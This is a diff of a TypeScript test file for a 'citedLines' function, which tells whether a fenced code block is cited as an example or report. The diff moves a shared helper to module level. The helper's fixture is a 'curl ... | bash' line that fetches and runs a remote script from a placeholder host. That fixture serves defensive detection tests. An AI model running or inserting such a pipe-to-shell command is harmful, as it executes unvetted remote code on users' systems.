@@ -1,6 +1,9 @@
 import { CitedCode, citedLines } from './cited-lines.js';
 
 const flags = (text: string) => Array.from(citedLines(text));
+/** Whether a fenced `curl | bash` after a lead-in is cited (the fence line when the lead-in wraps). */
+const block = (leadIn: string) =>
+  flags(`${leadIn}\n\n\`\`\`\ncurl -fs https://x.example/u.sh | bash\n\`\`\``)[leadIn.split('\n').length + 2];
 
 describe('citedLines', () => {
   it('should cite a fenced block whose lead-in says it is an example not to run', () => {
@@ -32,8 +35,6 @@ describe('citedLines', () => {
   });
 
   it('should cite what a lead-in reports a sample or a host did or left behind', () => {
-    const block = (leadIn: string) =>
-      flags(`${leadIn}\n\n\`\`\`\ncurl -fs https://x.example/u.sh | bash\n\`\`\``)[3];
     expect(block('EDR had recorded, 40 minutes after install:')).toBe(1);
     expect(block('`crontab -l` showed a line the user had not written:')).toBe(1);
     expect(block('The package had a `postinstall` that did, more or less:')).toBe(1);
@@ -46,8 +47,6 @@ describe('citedLines', () => {
   });
 
   it('should cite blocks introduced as examples of what attackers plant or what to grep for', () => {
-    const block = (leadIn: string) =>
-      flags(`${leadIn}\n\n\`\`\`\ncurl -fs https://x.example/u.sh | bash\n\`\`\``)[3];
     expect(block('5. Cron: grep for these patterns (examples of what attackers plant):')).toBe(1);
     expect(block('The honeypot records whole sessions. Expect things like:')).toBe(1);
     expect(block('Expect the install to take a minute; then run:')).toBe(0);
